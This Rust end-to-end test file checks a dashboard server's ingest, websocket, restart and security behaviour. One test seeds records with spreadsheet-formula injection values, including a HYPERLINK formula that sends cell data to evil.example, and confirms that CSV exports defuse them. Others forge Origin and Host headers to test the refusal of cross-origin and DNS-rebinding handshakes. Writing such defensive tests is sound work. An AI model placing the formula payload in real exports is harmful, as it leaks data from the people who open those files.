//! The real server binary on port 0: ingest, the overview it feeds, the
//! websocket protocol, and restart from the durable log.

use e2e::{AppOptions, accepted_event, next_msg, spawn_app};
use futures::SinkExt;
use model::live::{ClientMsg, ServerMsg, TopicData};
use serde_json::Value;
use tokio_tungstenite::tungstenite::Message;

fn row<'a>(overview: &'a Value, code: &str) -> Option<&'a Value> {
    overview["rows"]
        .as_array()?
        .iter()
        .find(|r| r["code"] == code)
}

#[tokio::test]
async fn ingest_reports_every_record_and_feeds_the_overview() {
    let app = spawn_app(AppOptions::default()).await.unwrap();
    let body = [
        accepted_event("a1", "2025-11-20T08:00:05+07:00", "00070", "online"),
        accepted_event("a2", "2025-11-20T08:00:40+07:00", "00073", "counter"),
        r#"{"event_id":"bad","kind":"dossier"}"#.to_owned(),
        "{oops".to_owned(),
        accepted_event("a3", "2025-11-20T08:01:10+07:00", "79", "online"),
        accepted_event("a1", "2025-11-20T08:00:05+07:00", "00070", "online"),
    ]
    .join("\n");
    let (status, report) = app.ingest(&body).await.unwrap();
    assert_eq!(status, 200, "{report}");
    assert_eq!(report["accepted"], 3);
    assert_eq!(report["duplicates"], 1);
    let rejected = report["rejected"].as_array().unwrap();
    assert_eq!(rejected.len(), 2);
    assert_eq!(rejected[0]["line"], 3);
    assert!(
        rejected[0]["errors"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["field"] == "occurred_at" && e["rule"] == "required")
    );
    assert_eq!(rejected[1]["line"], 4);
    assert_eq!(rejected[1]["errors"][0]["rule"], "json");

    app.settle().await.unwrap();
    let overview = app.get_json("/api/v1/overview").await.unwrap();
    let hn = row(&overview, "01").expect("Hà Nội row");
    assert_eq!(
        (hn["accepted"].as_u64(), hn["online"].as_u64()),
        (Some(2), Some(1))
    );
    assert_eq!(hn["name"], "Thành phố Hà Nội");
    let busy: Vec<_> = hn["minutes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["accepted"] != 0)
        .collect();
    assert_eq!(busy.len(), 1);
    assert_eq!(
        (busy[0]["minute"].as_str(), busy[0]["accepted"].as_u64()),
        (Some("2025-11-20T08:00:00+07:00"), Some(2))
    );
    assert_eq!(row(&overview, "79").unwrap()["online"], 1);

    // The same batch again: every event is a duplicate and nothing doubles.
    let (_, again) = app.ingest(&body).await.unwrap();
    assert_eq!(
        (again["accepted"].as_u64(), again["duplicates"].as_u64()),
        (Some(0), Some(4))
    );
    app.settle().await.unwrap();
    let overview = app.get_json("/api/v1/overview").await.unwrap();
    assert_eq!(row(&overview, "01").unwrap()["accepted"], 2);

    // Rejected records are kept with their reasons, for the administrator.
    let out = std::process::Command::new(e2e::govpulse_bin().unwrap())
        .args(["rejected", "export", "--format", "csv", "--data"])
        .arg(&app.data_dir)
        .output()
        .unwrap();
    assert!(out.status.success());
    let rejects = String::from_utf8(out.stdout).unwrap();
    assert!(rejects.starts_with("id,at,source,line,event_id,field,rule,message,raw"));
    assert!(rejects.lines().any(|l| l.contains(",json,")), "{rejects}");
    let out = std::process::Command::new(e2e::govpulse_bin().unwrap())
        .args(["rejected", "list", "--data"])
        .arg(&app.data_dir)
        .output()
        .unwrap();
    let listed = String::from_utf8(out.stdout).unwrap();
    assert!(listed.starts_with("4 rejected records stored"), "{listed}");
}

#[tokio::test]
async fn bad_requests_get_clear_errors_and_the_server_stays_up() {
    let app = spawn_app(AppOptions::default()).await.unwrap();
    let r = app
        .http
        .post(app.url("/api/v1/events"))
        .header("content-type", "application/xml")
        .bearer_auth(&app.token)
        .body("<x/>")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 415);
    let body: Value = r.json().await.unwrap();
    assert!(
        body["error"]
            .as_str()
            .unwrap()
            .contains("application/x-ndjson")
    );
    let future = accepted_event("f1", "2099-01-01T00:00:00+07:00", "01", "online");
    let (_, report) = app.ingest(&future).await.unwrap();
    assert_eq!(report["rejected"][0]["errors"][0]["rule"], "not_in_future");
    assert_eq!(app.get_json("/healthz").await.unwrap()["status"], "ok");
}

#[tokio::test]
async fn the_sample_stream_loads_into_an_empty_log_once() {
    let mut app = spawn_app(AppOptions {
        sample: true,
        ..Default::default()
    })
    .await
    .unwrap();
    let h = app.settle().await.unwrap();
    assert_eq!(h["events_logged"], 240);
    let before = app.get_json("/api/v1/overview").await.unwrap();
    assert_eq!(before["rows"].as_array().unwrap().len(), 10);
    let total: u64 = before["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["accepted"].as_u64().unwrap())
        .sum();
    assert_eq!(total, 120);

    // Restart on the same directory (after a kill -9): the log is replayed,
    // the sample is not loaded twice, and the numbers are the same.
    app.kill();
    let dir = app.data_dir.clone();
    let again = spawn_app(AppOptions {
        sample: true,
        data_dir: Some(dir),
        token: Some(app.token.clone()),
        ..Default::default()
    })
    .await
    .unwrap();
    let h = again.settle().await.unwrap();
    assert_eq!(h["events_logged"], 240);
    let after = again.get_json("/api/v1/overview").await.unwrap();
    assert_eq!(after["rows"], before["rows"]);
}

#[tokio::test]
async fn websocket_gives_a_snapshot_then_deltas_after_ingest() {
    let app = spawn_app(AppOptions::default()).await.unwrap();
    app.ingest(&accepted_event(
        "w1",
        "2025-11-20T09:00:00+07:00",
        "01",
        "online",
    ))
    .await
    .unwrap();
    app.settle().await.unwrap();
    let (mut ws, _) = tokio_tungstenite::connect_async(app.ws_request(app.cookie.as_deref()))
        .await
        .unwrap();
    let sub = serde_json::to_string(&ClientMsg::Subscribe {
        topic: "overview".into(),
    })
    .unwrap();
    ws.send(Message::Text(sub.into())).await.unwrap();
    let ServerMsg::Snapshot {
        seq,
        data: TopicData::Overview { rows },
        ..
    } = next_msg(&mut ws).await
    else {
        panic!("expected a snapshot")
    };
    assert_eq!(rows.len(), 1);
    app.ingest(&accepted_event(
        "w2",
        "2025-11-20T09:00:30+07:00",
        "79",
        "counter",
    ))
    .await
    .unwrap();
    match next_msg(&mut ws).await {
        ServerMsg::Delta {
            base,
            seq: new,
            data: TopicData::Overview { rows },
            ..
        } => {
            assert_eq!(base, seq);
            assert!(new > seq);
            assert_eq!(rows.len(), 1, "only the changed province is sent");
            assert_eq!(
                (rows[0].code.as_str(), rows[0].accepted, rows[0].online),
                ("79", 1, 0)
            );
        }
        m => panic!("expected a delta, got {m:?}"),
    }
    let bad = serde_json::to_string(&ClientMsg::Subscribe {
        topic: "backlog/01".into(),
    })
    .unwrap();
    ws.send(Message::Text(bad.into())).await.unwrap();
    assert!(matches!(next_msg(&mut ws).await, ServerMsg::Error { .. }));
}

#[tokio::test]
async fn a_cross_origin_websocket_handshake_is_refused() {
    let app = spawn_app(AppOptions::default()).await.unwrap();
    let status = |err| match err {
        tokio_tungstenite::tungstenite::Error::Http(resp) => resp.status().as_u16(),
        e => panic!("expected an HTTP refusal, got {e}"),
    };
    let mut req = app.ws_request(app.cookie.as_deref());
    req.headers_mut()
        .insert("origin", "http://evil.example".parse().unwrap());
    let err = tokio_tungstenite::connect_async(req).await.unwrap_err();
    assert_eq!(
        status(err),
        403,
        "a valid session does not help a foreign page"
    );
    let err = tokio_tungstenite::connect_async(app.ws_request(None))
        .await
        .unwrap_err();
    assert_eq!(status(err), 401, "no session, no socket");
    let err =
        tokio_tungstenite::connect_async(app.ws_request(Some("__Host-govpulse=0000000000000000")))
            .await
            .unwrap_err();
    assert_eq!(status(err), 401, "a made-up session id");
    // DNS rebinding: Origin and Host agree, but name another site.
    let port = app.addr.rsplit(':').next().unwrap();
    let mut req = app.ws_request(app.cookie.as_deref());
    req.headers_mut().insert(
        "origin",
        format!("http://evil.example:{port}").parse().unwrap(),
    );
    req.headers_mut()
        .insert("host", format!("evil.example:{port}").parse().unwrap());
    let err = tokio_tungstenite::connect_async(req).await.unwrap_err();
    assert_eq!(status(err), 403, "a rebound name is not this server");
    let mut req = app.ws_request(app.cookie.as_deref());
    req.headers_mut()
        .insert("origin", app.origin().parse().unwrap());
    assert!(tokio_tungstenite::connect_async(req).await.is_ok());
}

async fn post(
    app: &e2e::TestApp,
    ctype: &str,
    encoding: Option<&str>,
    body: Vec<u8>,
) -> (u16, Value) {
    let mut req = app
        .http
        .post(app.url("/api/v1/events"))
        .header("content-type", ctype)
        .bearer_auth(&app.token)
        .body(body);
    if let Some(e) = encoding {
        req = req.header("content-encoding", e);
    }
    let r = req.send().await.unwrap();
    (r.status().as_u16(), r.json().await.unwrap())
}

#[tokio::test]
async fn csv_parquet_and_gzip_bodies_are_ingested_like_ndjson() {
    use std::io::Write;
    let app = spawn_app(AppOptions::default()).await.unwrap();
    let event = |id: &str| -> Value {
        serde_json::from_str(&accepted_event(
            id,
            "2025-11-20T08:00:00+07:00",
            "00070",
            "online",
        ))
        .unwrap()
    };

    let mut w = pipelines::sources::csv::Writer::new(Vec::new()).unwrap();
    w.write_value(&event("c1")).unwrap();
    w.write_text("broken,row").unwrap();
    let (status, report) = post(&app, "text/csv", None, w.finish().unwrap()).await;
    assert_eq!(
        (status, report["accepted"].as_u64()),
        (200, Some(1)),
        "{report}"
    );
    assert_eq!(report["rejected"][0]["line"], 3);

    let mut buf = Vec::new();
    let mut w = pipelines::sources::parquet::Writer::new(&mut buf).unwrap();
    w.write_value(event("p1")).unwrap();
    w.write_value(event("c1")).unwrap();
    w.finish().unwrap();
    let (status, report) = post(&app, "application/vnd.apache.parquet", None, buf).await;
    assert_eq!(
        (
            status,
            report["accepted"].as_u64(),
            report["duplicates"].as_u64()
        ),
        (200, Some(1), Some(1)),
        "{report}"
    );

    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(accepted_event("g1", "2025-11-20T08:00:00+07:00", "00070", "counter").as_bytes())
        .unwrap();
    let (status, report) = post(
        &app,
        "application/x-ndjson",
        Some("gzip"),
        gz.finish().unwrap(),
    )
    .await;
    assert_eq!(
        (status, report["accepted"].as_u64()),
        (200, Some(1)),
        "{report}"
    );

    let (status, report) = post(
        &app,
        "application/x-ndjson",
        Some("gzip"),
        b"not gzip".to_vec(),
    )
    .await;
    assert_eq!(status, 400);
    assert!(report["error"].as_str().unwrap().contains("gzip"));
    let (status, _) = post(&app, "application/x-ndjson", Some("br"), b"{}".to_vec()).await;
    assert_eq!(status, 415);

    // `cat a.gz b.gz`: every member is read.
    let gzip = |id: &str| {
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gz.write_all(accepted_event(id, "2025-11-20T08:00:00+07:00", "00070", "online").as_bytes())
            .unwrap();
        gz.write_all(b"\n").unwrap();
        gz.finish().unwrap()
    };
    let mut two = gzip("m1");
    two.extend(gzip("m2"));
    let (status, report) = post(&app, "application/x-ndjson", Some("gzip"), two.clone()).await;
    assert_eq!(
        (status, report["accepted"].as_u64()),
        (200, Some(2)),
        "{report}"
    );
    two.extend(b"trailing junk");
    let (status, report) = post(&app, "application/x-ndjson", Some("gzip"), two).await;
    assert_eq!(status, 400, "{report}");
    let message = report["error"].as_str().unwrap();
    assert!(
        message.contains("Content-Encoding") && message.contains("trailing"),
        "{message}"
    );

    app.settle().await.unwrap();
    let overview = app.get_json("/api/v1/overview").await.unwrap();
    assert_eq!(row(&overview, "01").unwrap()["accepted"], 5);
}

#[tokio::test]
async fn the_event_contract_schema_is_served() {
    let app = spawn_app(AppOptions::default()).await.unwrap();
    let r = app
        .http
        .get(app.url("/api/v1/schema"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.headers()["content-type"], "application/schema+json");
    let schema: Value = r.json().await.unwrap();
    assert_eq!(schema["title"], "govpulse event contract v1");
    assert!(schema["properties"]["procedure_code"]["pattern"].is_string());
}

#[tokio::test]
async fn ingest_needs_a_live_token_and_stays_inside_its_units() {
    let app = spawn_app(AppOptions::default()).await.unwrap();
    let hanoi = e2e::add_source(&app.data_dir, "hanoi-dvc", "01").unwrap();
    let at = "2025-11-20T08:00:00+07:00";
    // 00070 is a commune of Hà Nội (01); 79 is Hồ Chí Minh City.
    let body = [
        accepted_event("in-1", at, "00070", "online"),
        accepted_event("out-1", at, "79", "online"),
        accepted_event("in-2", at, "01", "counter"),
    ]
    .join("\n");

    let r = app
        .http
        .post(app.url("/api/v1/events"))
        .header("content-type", "application/x-ndjson")
        .body(body.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    assert!(r.headers().contains_key("www-authenticate"));
    let (status, _) = app.ingest_as("gps_not-a-token", &body).await.unwrap();
    assert_eq!(status, 401);

    let (status, report) = app.ingest_as(&hanoi, &body).await.unwrap();
    assert_eq!(status, 200, "{report}");
    assert_eq!(report["accepted"], 2, "{report}");
    // The scheme is case-insensitive (RFC 9110): an accepted event again,
    // a duplicate, with `bearer` in lower case.
    let r = app
        .http
        .post(app.url("/api/v1/events"))
        .header("content-type", "application/x-ndjson")
        .header("authorization", format!("bearer {hanoi}"))
        .body(accepted_event("in-1", at, "00070", "online"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "lower-case bearer scheme");
    let rejected = &report["rejected"][0];
    assert_eq!(rejected["line"], 2);
    assert_eq!(rejected["event_id"], "out-1");
    assert_eq!(rejected["errors"][0]["field"], "unit");
    assert_eq!(rejected["errors"][0]["rule"], "scope");

    // Deduplication is per source: the same ids from another source count.
    let (_, again) = app.ingest_as(&hanoi, &body).await.unwrap();
    assert_eq!(
        (again["accepted"].as_u64(), again["duplicates"].as_u64()),
        (Some(0), Some(2))
    );

    // The rejection is kept, with its reason, for the administrator.
    let out = std::process::Command::new(e2e::govpulse_bin().unwrap())
        .args(["rejected", "export", "--source", "hanoi-dvc", "--data"])
        .arg(&app.data_dir)
        .output()
        .unwrap();
    assert!(out.status.success());
    let stdout = String::from_utf8(out.stdout).unwrap();
    let kept: Vec<Value> = stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(kept.len(), 2, "{stdout}");
    assert!(
        kept.iter()
            .all(|r| r["event_id"] == "out-1" && r["errors"][0]["rule"] == "scope")
    );

    // A revoked token stops working at once, with the server still running.
    let out = std::process::Command::new(e2e::govpulse_bin().unwrap())
        .args(["sources", "revoke", "hanoi-dvc", "--data"])
        .arg(&app.data_dir)
        .output()
        .unwrap();
    assert!(out.status.success());
    let (status, _) = app.ingest_as(&hanoi, &body).await.unwrap();
    assert_eq!(status, 401);
}

/// `govpulse_checkpoint_offset_bytes` from `/metrics`.
async fn checkpoint_offset(app: &e2e::TestApp) -> f64 {
    let m = app.metrics().await.unwrap();
    m.lines()
        .find_map(|l| l.strip_prefix("govpulse_checkpoint_offset_bytes "))
        .and_then(|v| v.parse().ok())
        .unwrap()
}

#[tokio::test]
async fn a_restart_resumes_from_the_checkpoint_with_the_numbers_of_one_run() {
    // Events over several provinces and two hours, in an order that is
    // not event-time order.
    let batch = |range: std::ops::Range<usize>| -> String {
        range
            .map(|i| {
                let unit = ["01", "79", "00070", "48", "00073"][i % 5];
                let minute = (i * 47) % 120;
                let at = format!(
                    "2025-11-20T{:02}:{:02}:00+07:00",
                    8 + minute / 60,
                    minute % 60
                );
                accepted_event(
                    &format!("cp{i}"),
                    &at,
                    unit,
                    ["online", "counter"][i % 3 % 2],
                )
            })
            .collect::<Vec<_>>()
            .join("\n")
    };
    let env = vec![(
        "GOVPULSE__ENGINE__CHECKPOINT_SECS".to_owned(),
        "1".to_owned(),
    )];

    let mut app = spawn_app(AppOptions {
        env: env.clone(),
        ..Default::default()
    })
    .await
    .unwrap();
    assert_eq!(app.ingest(&batch(0..60)).await.unwrap().0, 200);
    let first = app.settle().await.unwrap()["log_bytes"].as_f64().unwrap();
    let mut cp = 0.0;
    for _ in 0..100 {
        cp = checkpoint_offset(&app).await;
        if cp == first {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!(cp, first, "no checkpoint of the first batch within 10 s");
    app.kill();

    let restarted = spawn_app(AppOptions {
        env: env.clone(),
        data_dir: Some(app.data_dir.clone()),
        token: Some(app.token.clone()),
        ..Default::default()
    })
    .await
    .unwrap();
    // It resumed from the checkpoint rather than from the start of the log.
    assert_eq!(checkpoint_offset(&restarted).await, first);
    assert_eq!(restarted.ingest(&batch(60..150)).await.unwrap().0, 200);
    restarted.settle().await.unwrap();
    let resumed = restarted.get_json("/api/v1/overview").await.unwrap();

    let whole = spawn_app(AppOptions {
        env,
        ..Default::default()
    })
    .await
    .unwrap();
    whole.ingest(&batch(0..60)).await.unwrap();
    whole.ingest(&batch(60..150)).await.unwrap();
    whole.settle().await.unwrap();
    let uninterrupted = whole.get_json("/api/v1/overview").await.unwrap();
    assert_eq!(resumed["rows"].as_array().unwrap().len(), 3);
    assert_eq!(resumed["rows"], uninterrupted["rows"]);
    // The retained KPI state came back from the checkpoint too.
    let kpis = "/api/v1/units/VN/kpis?period=hour&level=province";
    let resumed = restarted.get_json(kpis).await.unwrap();
    let uninterrupted = whole.get_json(kpis).await.unwrap();
    assert!(!resumed["rows"].as_array().unwrap().is_empty());
    assert_eq!(resumed["rows"], uninterrupted["rows"]);
}

/// Engine settings under which a test's events are late after a minute and
/// too late after an hour.
fn one_minute_lateness_one_hour_horizon() -> Vec<(String, String)> {
    vec![
        (
            "GOVPULSE__ENGINE__ALLOWED_LATENESS_SECS".into(),
            "60".into(),
        ),
        (
            "GOVPULSE__ENGINE__CORRECTION_HORIZON_SECS".into(),
            "3600".into(),
        ),
    ]
}

#[tokio::test]
async fn late_events_are_corrections_and_too_late_ones_are_counted_not_folded() {
    let mut env = one_minute_lateness_one_hour_horizon();
    // Rows reach back to the late event's minute.
    env.push(("GOVPULSE__ENGINE__ROW_MINUTES".into(), "60".into()));
    let app = spawn_app(AppOptions {
        env,
        ..Default::default()
    })
    .await
    .unwrap();
    let ev = |id: &str, at: &str| {
        accepted_event(id, &format!("2025-11-20T{at}:00+07:00"), "01", "online")
    };
    let on_time = [ev("a", "10:00"), ev("b", "10:01"), ev("c", "10:01")].join("\n");
    assert_eq!(app.ingest(&on_time).await.unwrap().0, 200);
    app.settle().await.unwrap();
    let overview = app.get_json("/api/v1/overview").await.unwrap();
    let hanoi = row(&overview, "01").unwrap();
    // Final behind the watermark: 10:01 less one minute of lateness.
    assert_eq!(hanoi["final_before"], "2025-11-20T10:00:00+07:00");
    assert_eq!(hanoi["corrections"], 0);
    // 30 minutes behind the source's newest event: late, folded in, and
    // its minute was final: the change reaches clients as a correction.
    assert_eq!(app.ingest(&ev("late", "09:31")).await.unwrap().0, 200);
    app.settle().await.unwrap();
    let overview = app.get_json("/api/v1/overview").await.unwrap();
    let hanoi = row(&overview, "01").unwrap();
    assert_eq!(hanoi["corrections"], 1, "{hanoi}");
    let corrected: Vec<_> = hanoi["minutes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["corrections"].as_u64().unwrap_or(0) > 0)
        .map(|m| m["minute"].as_str().unwrap())
        .collect();
    assert_eq!(corrected, ["2025-11-20T09:31:00+07:00"], "{hanoi}");
    // Three hours behind: beyond the one-hour horizon.
    assert_eq!(app.ingest(&ev("too-late", "07:00")).await.unwrap().0, 200);
    app.settle().await.unwrap();

    let sources = app.get_json("/api/v1/sources").await.unwrap();
    let e2e = sources["sources"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "e2e")
        .unwrap();
    let et = &e2e["event_time"];
    assert_eq!(
        (
            et["events"].as_u64(),
            et["late"].as_u64(),
            et["too_late"].as_u64()
        ),
        (Some(5), Some(1), Some(1)),
        "{et}"
    );
    assert_eq!(et["watermark"], "2025-11-20T10:00:00+07:00");
    assert_eq!(sources["lateness"]["correction_horizon_secs"], 3600);

    // The live state leaves the too-late event out...
    let kpis = app
        .get_json("/api/v1/units/VN/kpis?period=all&level=nation")
        .await
        .unwrap();
    assert_eq!(
        kpis["rows"][0]["kpis"]["online_dossiers"]["denominator"], 4,
        "{kpis}"
    );
    assert_eq!(kpis["final_before"], "2025-11-20T10:00:00+07:00");
    let metrics = app.metrics().await.unwrap();
    assert!(
        metrics.contains("govpulse_events_too_late_total 1\n"),
        "{metrics}"
    );
    assert!(metrics.contains("govpulse_source_late_total{source=\"e2e\"} 1\n"));
    // ...and the batch recount over the log still has it.
    let dir = app.data_dir.to_str().unwrap().to_owned();
    let out = e2e::govpulse(&[
        "kpi", "--data", &dir, "--level", "nation", "--period", "all",
    ])
    .unwrap();
    let rows: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(rows[0]["kpis"]["online_dossiers"]["denominator"], 5);
}

#[tokio::test]
async fn the_last_hour_is_a_sum_of_minute_buckets_for_any_top_unit() {
    let app = spawn_app(AppOptions::default()).await.unwrap();
    let cookie = app.cookie.clone();
    let empty = app.get_json("/api/v1/units/VN/recent").await.unwrap();
    assert_eq!(empty["kpis"], serde_json::json!({}), "{empty}");
    let body = [
        // Outside the last hour of the newest minute (10:30).
        accepted_event("a", "2025-11-20T09:00:00+07:00", "00070", "counter"),
        accepted_event("b", "2025-11-20T09:45:00+07:00", "00070", "online"),
        accepted_event("c", "2025-11-20T10:30:00+07:00", "79", "counter"),
    ]
    .join("\n");
    assert_eq!(app.ingest(&body).await.unwrap().0, 200);
    app.settle().await.unwrap();

    let kpi = |v: &Value| {
        let k = &v["kpis"]["online_dossiers"];
        (k["numerator"].as_i64(), k["denominator"].as_i64())
    };
    let nation = app.get_json("/api/v1/units/VN/recent").await.unwrap();
    assert_eq!(kpi(&nation), (Some(1), Some(2)), "{nation}");
    assert_eq!(nation["from"], "2025-11-20T09:31:00+07:00");
    assert_eq!(nation["to"], "2025-11-20T10:31:00+07:00");
    assert!(
        nation["not_covered"]
            .as_array()
            .unwrap()
            .contains(&"on_time".into())
    );
    let day = app
        .get_json("/api/v1/units/VN/recent?minutes=1440")
        .await
        .unwrap();
    assert_eq!(kpi(&day), (Some(1), Some(3)));
    let hanoi = app
        .get_json("/api/v1/units/01/recent?minutes=1440")
        .await
        .unwrap();
    assert_eq!(kpi(&hanoi), (Some(1), Some(2)));

    // A commune has no minute windows of its own; a window longer than the
    // retention is refused; both name the field.
    for (path, field) in [
        ("/api/v1/units/00070/recent", "code"),
        ("/api/v1/units/VN/recent?minutes=5000", "minutes"),
        ("/api/v1/units/VN/recent?minute=5", "minute"),
    ] {
        let a = app.get_as(cookie.as_deref(), path).await.unwrap();
        assert_eq!(a.status, 400, "{path}: {}", a.body);
        assert!(a.body.contains(field), "{path}: {}", a.body);
    }
}

#[tokio::test]
async fn finished_dossiers_past_the_horizon_are_folded_into_sums_with_the_same_numbers() {
    let app = spawn_app(AppOptions {
        env: one_minute_lateness_one_hour_horizon(),
        ..Default::default()
    })
    .await
    .unwrap();
    let resolved = |id: &str, at: &str| {
        serde_json::json!({
            "event_id": format!("{id}-r"), "kind": "dossier", "occurred_at": at,
            "unit": "00070", "dossier_id": format!("D-{id}"), "status": "resolved",
            "procedure_code": "1.001757", "digitized": true, "e_result": true,
        })
        .to_string()
    };
    let body = [
        accepted_event("a", "2025-11-17T08:00:00+07:00", "00070", "online"),
        accepted_event("b", "2025-11-17T09:00:00+07:00", "00070", "counter"),
        accepted_event("c", "2025-11-17T10:00:00+07:00", "00070", "online"),
        // On time, and after its due date (2025-11-25 17:00).
        resolved("a", "2025-11-18T10:00:00+07:00"),
        resolved("b", "2025-11-26T10:00:00+07:00"),
        // Days later: every source's horizon is past a's and b's finish.
        accepted_event("d", "2025-11-28T12:00:00+07:00", "01", "online"),
    ]
    .join("\n");
    assert_eq!(app.ingest(&body).await.unwrap().0, 200);
    app.settle().await.unwrap();
    let metrics = app.metrics().await.unwrap();
    assert!(
        metrics.contains("govpulse_dossiers_held 2\n"),
        "c and d are held, a and b folded away: {metrics}"
    );
    // Day by day, the live state (compacted) and the batch recount over the
    // log (not compacted) agree: backlog, overdue, on time, processing.
    let live = app
        .get_json("/api/v1/units/VN/kpis?period=day&level=nation")
        .await
        .unwrap();
    let dir = app.data_dir.to_str().unwrap().to_owned();
    let out = e2e::govpulse(&[
        "kpi", "--data", &dir, "--level", "nation", "--period", "day",
    ])
    .unwrap();
    let recount: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(live["rows"], recount, "{live}");
    let overdue: Vec<_> = recount
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["overdue_open"].as_i64().unwrap())
        .collect();
    assert!(
        overdue.contains(&2),
        "b and c overdue on 2025-11-25: {overdue:?}"
    );
}

#[tokio::test]
async fn every_answer_carries_the_security_headers() {
    let web = tempfile::tempdir().unwrap();
    std::fs::write(
        web.path().join("index.html"),
        "<!doctype html><title>t</title><script type=\"module\" src=\"/boot.js\"></script>",
    )
    .unwrap();
    std::fs::write(web.path().join("style.css"), "body { margin: 0 }").unwrap();
    let app = spawn_app(AppOptions {
        web_dir: Some(web.path().to_owned()),
        ..Default::default()
    })
    .await
    .unwrap();
    let cookie = app.cookie.as_deref();
    for (path, status) in [
        ("/", 200),
        ("/style.css", 200),
        ("/some/page", 200),
        ("/api/v1/schema", 200),
        ("/api/v1/units/01/kpis", 200),
        ("/api/v1/units/nope", 404),
        ("/api/v1/units/01/kpis?bad=1", 400),
    ] {
        let a = app.get_as(cookie, path).await.unwrap();
        assert_eq!(a.status, status, "{path}: {}", a.body);
        let h = |name: &str| {
            a.headers
                .get(name)
                .and_then(|v| v.to_str().ok())
                .unwrap_or_else(|| panic!("{path}: no {name}"))
                .to_owned()
        };
        let csp = h("content-security-policy");
        for rule in [
            "default-src 'self'",
            "script-src 'self' 'wasm-unsafe-eval'",
            "object-src 'none'",
            "frame-ancestors 'none'",
            "base-uri 'none'",
        ] {
            assert!(csp.contains(rule), "{path}: {rule} not in {csp}");
        }
        assert!(!csp.contains("script-src 'self' 'unsafe-inline'"), "{csp}");
        assert_eq!(h("x-frame-options"), "DENY", "{path}");
        assert_eq!(h("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(h("referrer-policy"), "no-referrer", "{path}");
    }
    // An anonymous refusal and a refused ingest are answers too.
    let a = app.get_as(None, "/api/v1/overview").await.unwrap();
    assert_eq!(a.status, 401);
    assert!(a.headers.contains_key("content-security-policy"));
    let r = app
        .http
        .post(app.url("/api/v1/events"))
        .body("{}")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    assert_eq!(r.headers()["x-frame-options"], "DENY");
}

#[test]
fn the_dashboard_page_has_no_inline_script() {
    let index =
        std::fs::read_to_string(e2e::workspace_root().join("frontend/static/index.html")).unwrap();
    let mut rest = index.as_str();
    while let Some(i) = rest.find("<script") {
        let tag_end = rest[i..].find('>').unwrap() + i;
        let tag = &rest[i..=tag_end];
        assert!(tag.contains(" src="), "inline script: {tag}");
        let close = rest[tag_end..].find("</script>").unwrap() + tag_end;
        assert!(
            rest[tag_end + 1..close].trim().is_empty(),
            "inline script body"
        );
        rest = &rest[close..];
    }
}

#[tokio::test]
async fn csv_exports_carry_no_spreadsheet_formulas() {
    let app = spawn_app(AppOptions::default()).await.unwrap();
    let ids = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")",
        "@SUM(1+1)",
        "+1+1",
        "-1+1",
        "D-plain",
    ];
    let mut lines: Vec<String> = ids
        .iter()
        .enumerate()
        .map(|(i, id)| {
            let mut v: Value = serde_json::from_str(&accepted_event(
                &format!("f{i}"),
                "2025-11-20T08:00:00+07:00",
                "00070",
                "online",
            ))
            .unwrap();
            v["dossier_id"] = Value::from(*id);
            v.to_string()
        })
        .collect();
    // Not JSON: rejected, and its raw text is exported below.
    lines.push("=1+1".into());
    let (status, report) = app.ingest(&lines.join("\n")).await.unwrap();
    assert_eq!(
        (status, report["accepted"].as_u64()),
        (200, Some(5)),
        "{report}"
    );
    app.settle().await.unwrap();

    let csv = app
        .get_as(app.cookie.as_deref(), "/api/v1/units/01/backlog?format=csv")
        .await
        .unwrap();
    assert_eq!(csv.status, 200, "{}", csv.body);
    for want in [
        "\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"open\"\")\",00070,",
        "\n'@SUM(1+1),00070,",
        "\n'+1+1,00070,",
        "\n'-1+1,00070,",
        "\nD-plain,00070,",
    ] {
        assert!(csv.body.contains(want), "{want:?} not in\n{}", csv.body);
    }
    for line in csv.body.lines().skip(1) {
        assert!(!line.starts_with(['=', '+', '-', '@']), "{line}");
        // The age stays a number.
        let age = line.rsplit(',').next().unwrap();
        assert!(age.parse::<f64>().is_ok(), "age {age:?} in {line}");
    }

    let out = e2e::govpulse(&[
        "rejected",
        "export",
        "--format",
        "csv",
        "--data",
        app.data_dir.to_str().unwrap(),
    ])
    .unwrap();
    assert!(out.lines().any(|l| l.ends_with(",'=1+1")), "{out}");
}
